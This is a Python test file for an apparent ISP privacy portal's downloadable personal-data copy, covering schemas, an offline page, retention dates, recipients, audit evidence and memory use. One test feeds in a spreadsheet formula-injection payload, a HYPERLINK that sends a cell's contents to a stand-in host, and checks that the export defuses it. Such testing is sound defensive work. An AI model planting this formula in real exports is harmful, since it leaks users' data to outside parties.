"""What is in the copy of everything, and how does it leave?

Proves: R4, D5, G3.
"""

import io
import json
import re
import threading
import tracemalloc
from collections.abc import Callable, Iterator, Mapping
from concurrent.futures import Future
from datetime import UTC, datetime, timedelta
from typing import Any
from zipfile import ZipFile

import jsonschema
import pytest

from browsing import Reader
from copies import Copy, copy_of
from declared_rows import own_rows, whole
from hjemmel.acts import answer_access as answering
from hjemmel.acts.actor import Actor
from hjemmel.acts.answer_access import answer_access, in_turn
from hjemmel.acts.close_access import close_access
from hjemmel.acts.look_up import look_up
from hjemmel.acts.open_permit import open_permit
from hjemmel.acts.sign_agreement import sign_agreement
from hjemmel.acts.the_notice import the_notice
from hjemmel.gate.decision import Refused
from hjemmel.lifecycle.partitions import partition_due, partition_of, partitioning
from hjemmel.notice.model import Kind, Needs
from hjemmel.portals import copied
from hjemmel.portals.copied import packed
from hjemmel.portals.copied_rows import GONE
from hjemmel.stores import ahead, entries, events, evidence, models
from homes import Home, calls, new_home, now, samples
from looking import ADVISER, PRIVACY, oneself

pytestmark = pytest.mark.usefixtures("house")
DAY = timedelta(days=1)


def full_home() -> Home:
    home, at = new_home(), now()
    samples([home], [timedelta(hours=1), timedelta(hours=30)], at)
    calls(home, [at - DAY])
    own_rows(home)
    whole(home, the_notice(), at)
    return home


@pytest.fixture(scope="module")
def home(house: None) -> Home:
    return full_home()


@pytest.fixture(scope="module")
def copy(home: Home) -> Copy:
    return copy_of(home)


def test_every_record_type_lies_there_as_a_page_a_table_and_data_with_a_schema_that_it_fits(copy: Copy) -> None:
    """Proves: R4."""
    for part in copy.about["records"]:
        record = part["record"]
        schema, rows, table = copy.json(f"schema/{record}.json"), copy.rows(record), copy.table(record)
        jsonschema.Draft202012Validator.check_schema(schema)
        for row in rows:
            jsonschema.validate(row, schema, format_checker=jsonschema.FormatChecker())
        assert len(rows) == len(table) == part["rows"]
        assert [set(row) for row in rows] == [set(row) for row in table] == [{*part["fields"], GONE}] * len(rows)
        assert f'id="{record}"' in copy.page


def test_the_page_needs_no_network_and_no_script_and_speaks_the_readers_language(home: Home, copy: Copy) -> None:
    """Proves: R4."""
    assert copy.page.startswith('<!doctype html>\n<html lang="nb">')
    assert copy_of(home, "en").page.startswith('<!doctype html>\n<html lang="en">')
    for outside in ("<script", "<link", "@import", "url(", "src="):
        assert outside not in copy.page
    links = {part.split('"', 1)[0] for part in copy.page.split('href="')[1:]}
    assert {link for link in links if not link.startswith("#")} <= set(copy.files)


def test_every_rule_of_the_page_s_style_is_one_that_a_browser_reads(copy: Copy) -> None:
    style = copy.page.partition("<style>")[2].partition("</style>")[0]
    selectors = [rule.rpartition("}")[2].strip() for rule in style.split("{")[:-1]]
    assert len(selectors) > 20
    assert [one for one in selectors if not re.fullmatch(r"[@:.,() a-z0-9-]+", one)] == []


def test_beside_each_record_type_stands_why_who_from_where_to_whom_and_until_when(copy: Copy) -> None:
    """Proves: R3, R4."""
    notice = the_notice()
    for part in copy.about["records"]:
        record = notice.record(part["record"])
        assert part["purposes"] == [
            notice.purpose(p).title.nb for p in dict.fromkeys([record.purpose, *(use.purpose for use in record.uses)])
        ]
        assert part["law"] == record.law and part["source"] == record.source.nb
        assert part["until_law"] == record.retention.law
        assert part["recipients"] == [r.title.nb for r in notice.recipients if record.id in r.records]
        for said in (part["source"], *part["who_in_full"]):
            assert said.replace("'", "&#x27;").replace('"', "&quot;") in copy.page
    assert notice.authority.address in copy.about["complaint"] and notice.authority.address in copy.page
    assert len(copy.about["rights"]) == len(notice.category_of("request").clauses)


def test_each_row_says_the_day_on_which_it_goes(copy: Copy) -> None:
    """Proves: R4."""
    from zoneinfo import ZoneInfo

    rule, zone = the_notice().record("device-sample").retention, ZoneInfo(the_notice().time_zone)
    for row in copy.rows("device-sample"):
        partition = partition_of(datetime.fromisoformat(row["seen_at"]), partitioning(rule), zone)
        assert datetime.fromisoformat(row[GONE]) == partition_due(rule, partition, zone), "with what was measured on the same day"
    [contact] = copy.rows("contact")
    assert contact["left_on"] is None and contact[GONE] is None, "its clock has not started"


def test_what_is_not_shown_is_named_with_its_paragraph(copy: Copy) -> None:
    """Proves: R4."""
    withheld = {(part["record"], w["field"]): w for part in copy.about["records"] for w in part["withheld"]}
    for record in the_notice().records():
        for use in record.uses:
            if use.needs is Needs.OWN:
                hidden = {field.name for field in record.fields} - set(use.fields) | {where.field for where in use.only_where}
                assert {field for of, field in withheld if of == record.id} == hidden
    for told in withheld.values():
        assert told["law"] in copy.page and told["why"] in copy.page


def test_whoever_looked_is_there_by_role_and_reason_and_not_by_name() -> None:
    """Proves: R4."""
    home = new_home()
    staff = Actor("oddvar.nilsen", "support")
    token = open_permit(staff, "customer-service", home.customer_number, "Spør om fakturaen for mai", now()).token
    look_up(token, staff, "contact", now())
    found = copy_of(home)
    [look] = found.about["looks"]
    assert (look["audience"], look["reason"], look["records_seen"]) == ("support", "Spør om fakturaen for mai", "contact,")
    assert "Spør om fakturaen for mai" in found.page
    assert "oddvar.nilsen" not in found.text


def test_recipients_stand_there_by_name_with_the_days() -> None:
    """Proves: R4, D5."""
    home, at = new_home(), now()
    notice, party = the_notice(), f"Fakturahuset {home.customer_number}"
    sign_agreement(party, "billing-partners", (at.date(), at.date() + 30 * DAY), "deleted", PRIVACY, at)
    told = {"number": f"U-{home.contact_id}", "recipient": "police", "ground": "serious-crime", "law": "ekomloven § 3-14"}
    told |= {"scope": "ip-assignment: public_address", "issuer": "Prøvestad politikammer", "approved_by": "petra", "released_at": at}
    entries.add(notice.record("disclosure"), home.contact_id, told, 1)
    secret = told | {"number": f"H-{home.contact_id}", "issuer": "Hemmelig politikammer", "secret_until": at.date() + 9 * DAY}
    entries.add(notice.record("disclosure"), home.contact_id, secret, 1)
    share = {"case_number": "S-1", "vendor": "Linjehjelp AS", "need": "en måling på stedet", "shared_at": at - DAY, "revoked_at": at}
    entries.add(notice.record("case-share"), home.contact_id, share, 1)
    handed = {(h["name"], h["recipient"]): h for h in copy_of(home).about["handed_over"]}
    assert handed[party, "billing-partners"]["ongoing"] and "email" in handed[party, "billing-partners"]["what"]
    assert handed["Prøvestad politikammer", "police"]["from"][:10] == f"{at.astimezone(UTC):%Y-%m-%d}"
    assert handed["Linjehjelp AS", "operating-partners"]["to"] is not None
    assert not any("Hemmelig politikammer" in name for name, _ in handed)


def test_calls_to_crisis_lines_are_not_in_a_copy_that_anybody_in_the_home_may_read() -> None:
    """Proves: R4, P3."""
    home = new_home()
    calls(home, [now() - DAY], call_type="toll-free")
    calls(home, [now() - 2 * DAY])
    assert [row["call_type"] for row in copy_of(home).rows("call")] == ["domestic-mobile"]


def test_a_text_that_a_spreadsheet_would_calculate_is_defused_in_the_table_and_whole_in_the_data() -> None:
    """Proves: R4."""
    evil = '=HYPERLINK("http://x.example/?"&A1;"Trykk her")'
    home = new_home(name=evil, address="@SUM(1+1)", place="\tPrøvestad", phone="+4751000000")
    found = copy_of(home)
    [row], [cells] = found.rows("contact"), found.table("contact")
    assert row["name"] == evil and cells["name"] == "'" + evil
    assert [cells[name][:2] for name in ("address", "place", "phone")] == ["'@", "'\t", "'+"]
    assert evil not in found.page and "&quot;http://x.example/" in found.page


def test_texts_with_markup_lines_and_other_letters_stand_as_they_were_written() -> None:
    """Proves: R4."""
    name = 'Ærlig <b>Øvregård</b>, "kalt" Åse\nSápmi 🐟'
    home = new_home(name=name)
    found = copy_of(home)
    assert found.rows("contact")[0]["name"] == found.table("contact")[0]["name"] == name
    assert "<b>Øvregård" not in found.page


def test_the_same_data_give_the_same_bytes(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    """Proves: R4."""
    token, at = open_permit(oneself(home), "access", home.customer_number, "", now()).token, now()

    def made() -> bytes:
        return b"".join(packed(answer_access(token, oneself(home), at), "nb", lambda given: None))

    first = made()
    assert made() == first
    with ZipFile(io.BytesIO(first)) as names:
        assert [n for n in names.namelist() if n.startswith("schema/")] == [
            f"schema/{record.id}.json" for record in the_notice().records() if record.subject != "none"
        ]


def test_the_hand_out_is_evidence_and_the_permit_ends_with_it() -> None:
    """Proves: R4, G3."""
    from hashlib import sha256

    home = new_home()
    samples([home], [timedelta(hours=1)], now())
    reader = Reader().sign_in(home)
    answer = reader.get("/min-side/rights/copy/")
    assert answer["Content-Type"] == "application/zip" and ".zip" in answer["Content-Disposition"]
    assert answer["Cache-Control"] == "no-store"
    data = answer.getvalue()
    said = {entry.act: entry for entry in evidence.about(models.Contact.objects.get(pk=home.contact_id).evidence_salt)}
    given = said["access-given"].body
    assert (given["sha256"], given["bytes"]) == (sha256(data).hexdigest(), len(data))
    assert given["rows"] == sum(part["rows"] for part in Copy(data).about["records"])
    assert said["access"].clause == said["access-given"].clause == the_notice().clause_for("act.answer_access")
    permit = models.Permit.objects.get(pk=given["permit"])
    assert permit.closed_at is not None
    assert reader.client.head("/min-side/rights/copy/").status_code == 200
    assert not models.Permit.objects.filter(contact_id=home.contact_id, reason=permit.reason, closed_at=None).exists()


def test_a_copy_that_is_cut_off_is_told_of_as_cut_off() -> None:
    """Proves: G3."""
    home = new_home()
    reader = Reader().sign_in(home)
    answer = reader.get("/min-side/rights/copy/")
    next(iter(answer))
    answer.close()
    said = [entry for entry in evidence.about(models.Contact.objects.get(pk=home.contact_id).evidence_salt) if entry.act == "access-given"]
    assert [entry.body.get("cut off") for entry in said] == [True]


def test_from_the_front_page_it_is_two_clicks_away() -> None:
    """Proves: R1, R4."""
    reader = Reader().sign_in(new_home())
    assert "/min-side/rights/" in reader.get("/min-side/").content.decode()
    assert "/min-side/rights/copy/" in reader.get("/min-side/rights/").content.decode()


def test_nobody_else_gets_it_and_not_without_a_permit(home: Home) -> None:
    """Proves: R4."""
    stranger = new_home()
    token = open_permit(oneself(home), "access", home.customer_number, "", now()).token
    for who, with_token in ((oneself(stranger), token), (ADVISER, token), (oneself(home), "none")):
        with pytest.raises(Refused):
            answer_access(with_token, who, now())


def _away_for_whoever_reads_ahead(monkeypatch: pytest.MonkeyPatch) -> None:
    blocks, asker = events.blocks, threading.get_ident()

    def away(sql: str, parameters: Mapping[str, Any]) -> Iterator[list[tuple[Any, ...]]]:
        if threading.get_ident() != asker:
            raise events.EventsUnavailable("the event engine does not answer")
        return blocks(sql, parameters)

    monkeypatch.setattr(events, "blocks", away)


def _at_once(read: Callable[[], object]) -> Future[object]:
    done: Future[object] = Future()
    done.set_result(read())
    return done


@pytest.mark.parametrize(
    "hindered",
    [
        pytest.param(lambda patch: patch.setattr(answering, "MOST_AHEAD", 1), id="the rows are too many to hold"),
        pytest.param(lambda patch: patch.setattr(answering, "TICKET_SECONDS", 0), id="the tickets are near their end"),
        pytest.param(_away_for_whoever_reads_ahead, id="the engine did not answer then"),
    ],
)
def test_the_copy_is_the_same_whether_or_not_its_rows_were_read_ahead(
    home: Home, copy: Copy, hindered: Callable[[pytest.MonkeyPatch], None], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Proves: R4."""
    hindered(monkeypatch)
    again = copy_of(home)
    _same_events(again, copy)


def test_nobody_waits_for_one_who_reads_ahead_for_somebody_else(home: Home, copy: Copy) -> None:
    """Proves: R4."""
    gate = threading.Event()
    busy = [ahead.ask(lambda: gate.wait(60)) for _ in range(ahead.READERS)]
    try:
        _same_events(copy_of(home), copy)
        assert not any(one.done() for one in busy)
    finally:
        gate.set()


def _same_events(one: Copy, other: Copy) -> None:
    records = [record.id for record in the_notice().records() if record.kind is Kind.EVENT and f"data/{record.id}.json" in one.files]
    assert {record: one.rows(record) for record in records} == {record: other.rows(record) for record in records}
    assert one.rows("device-sample") and one.rows("call")


def test_what_was_read_ahead_is_not_given_when_its_ticket_is_near_its_end(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    """Proves: R4, R6. She may have been erased, or have closed the page, while the part before was on its way."""
    monkeypatch.setattr(ahead, "ask", _at_once)
    token = open_permit(oneself(home), "access", home.customer_number, "", now()).token
    answer = answer_access(token, oneself(home), now())
    parts = [part for part in answer.parts if part.record.id in ("contact", "device-sample")]
    assert sum(len(block.rows) for block in parts[1].few() or ()) == 2
    turns = in_turn(parts)
    assert next(turns)[0].record.id == "contact"
    close_access(token, oneself(home), None, now())
    monkeypatch.setattr(answering, "TICKET_SECONDS", 0)
    assert [row for _, blocks in turns for block in blocks for row in block.rows] == []


def test_however_many_rows_there_are_few_are_in_memory(monkeypatch: pytest.MonkeyPatch) -> None:
    """Proves: R4. Four times the rows do not take twice the memory, and no row is lost where they are read twice."""
    monkeypatch.setattr(copied, "IN_MEMORY", 2_000)
    peaks = {}
    for count in (8_000, 32_000):
        home, at = new_home(), now()
        samples([home], [timedelta(seconds=10 + 10 * n) for n in range(count)], at)
        token = open_permit(oneself(home), "access", home.customer_number, "", at).token
        answer = answer_access(token, oneself(home), now())
        size = 0
        tracemalloc.start()
        kept = io.BytesIO() if count < 10_000 else None
        for piece in packed(answer, "nb", lambda given: None):
            size += len(piece)
            if kept is not None:
                kept.write(piece)
        peaks[count] = tracemalloc.get_traced_memory()[1] - (size if kept else 0)
        tracemalloc.stop()
        if kept is not None:
            found = Copy(kept.getvalue())
            assert len(found.rows("device-sample")) == len(found.table("device-sample")) == count
            assert len({row["seen_at"] for row in found.rows("device-sample")}) == count
            assert json.dumps(found.about["records"]).count('"device-sample"') == 1
    assert peaks[32_000] < 2 * peaks[8_000], peaks
